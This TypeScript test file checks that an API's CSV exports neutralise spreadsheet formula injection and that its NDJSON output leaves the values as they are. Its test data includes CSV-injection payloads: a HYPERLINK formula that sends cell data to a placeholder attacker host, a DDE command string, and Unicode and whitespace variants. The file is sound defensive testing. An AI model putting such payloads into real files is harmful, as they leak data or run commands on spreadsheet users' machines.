import type { Workspace } from '../src/tenancy/workspace.entity';
import { createTestApp, type TestApp } from './support/app';
import { callRow, insertBulk, usageRow } from './support/bulk';
import { rowsOfCsv } from './support/csv';
import { READS, bodyOf, linesOf } from './support/exports';
import { buildKey, buildProject } from './support/factories';
import { mutations } from './support/mutate';

jest.setTimeout(90_000); // other test files use the processors too

const PAST_MS = Date.UTC(2025, 0, 1);

let app: TestApp;

beforeAll(async () => {
  app = await createTestApp();
});

afterAll(() => app.close());

describe('text that a spreadsheet would read as a formula', () => {
  const PLAIN = ['Key', 'a-b', 'a=b', '1+1', 'x@example.com', 'He said "no"', 'one, two', "O'Brien", 'Zoë 木', 'two\nlines', '5; 6'];
  const FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    '+cmd|\' /C calc\'!A0',
    '-2+3',
    '-5',
    '@SUM(1+1)*cmd',
    '\t=1+1',
    '\tplain',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '\u00a0+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠A1',
    'x;=1+1',
    'x; +1',
    'x\n@A1',
    'x\r\n-1',
    '="quoted"',
  ];

  it('gets an apostrophe in every text column of CSV, and is unchanged in NDJSON', async () => {
    const { key, secret, project } = await buildKey(app, { permissions: READS });
    const { workspaceId } = key;
    const of = { workspaceId, projectId: project.id, keyId: key.id };
    const texts = [...PLAIN, ...FORMULAS];
    await insertBulk(app.database, 'request_logs', texts.length, (index) => ({
      ...callRow(of, PAST_MS, index),
      action: texts[index] as string,
      user_agent: texts[index] as string,
      error_code: texts[index] as string,
      outcome: 'FAILED',
    }));
    const ledger = await buildProject(app, { workspace: { id: workspaceId } as Workspace, budget: 0 });
    await insertBulk(app.database, 'ledger_entries', texts.length, (index) => ({
      ...usageRow(ledger.id, 1e9, PAST_MS, index),
      reason: texts[index] as string,
      reference: texts[index] as string,
    }));
    const keys = await buildProject(app, { workspace: { id: workspaceId } as Workspace, budget: 0 });
    await insertBulk(app.database, 'api_keys', texts.length, (index) => ({
      ...{
        id: `key_${keys.id.slice(4)}${String(index).padStart(3, '0')}`,
        workspace_id: workspaceId,
        project_id: keys.id,
        name: texts[index] as string,
        environment: 'LIVE',
        hint: 'h',
      },
      ...{
        permissions: JSON.stringify([texts[index]]),
        role_id: null,
        allowed_ips: '[]',
        enabled: 1,
        expires_at: null,
        revoked_at: 1,
        revoked_reason: texts[index] as string,
        rotated_at: null,
        created_at: PAST_MS + index,
      },
    }));

    for (const [path, columns] of [
      ['request-logs?outcome=FAILED', ['action', 'userAgent', 'errorCode']],
      [`ledger?projectId=${ledger.id}`, ['reason', 'reference']],
      [`keys?projectId=${keys.id}`, ['name', 'revokedReason', 'permissions']],
    ] as const) {
      const rows = rowsOfCsv(await bodyOf(app, `${path}&format=csv`, secret));
      const lines = await linesOf(app, path, secret);
      for (const column of columns) {
        expect(lines.map((line) => [line[column]].flat()[0])).toEqual(texts);
        expect(rows.slice(0, PLAIN.length).map((row) => row[column])).toEqual(PLAIN);
        const written = rows.slice(PLAIN.length).map((row) => row[column] as string);
        for (const [index, text] of written.entries()) {
          expect(text.replaceAll("'", '')).toBe(FORMULAS[index]?.replaceAll("'", ''));
          for (const cell of text.split(/[;\t\r\n]/)) expect(cell).not.toMatch(/^\s*[=+\-@＝＋－＠]/);
          expect(text).not.toMatch(/^[\t\r\n]/);
        }
      }
    }
  });

  it('does not include numbers, which stay unchanged', async () => {
    const { secret, project } = await buildKey(app, { permissions: READS });
    const { mutate } = mutations(app);
    await mutate('adjustBalance', { projectId: project.id, delta: -5, reason: '-5' }, 'entry { id }');
    const [row] = rowsOfCsv(await bodyOf(app, `ledger?kind=ADJUSTMENT&format=csv&projectId=${project.id}`, secret));
    expect([row?.delta, row?.reason]).toEqual(['-5', "'-5"]);
  });
});
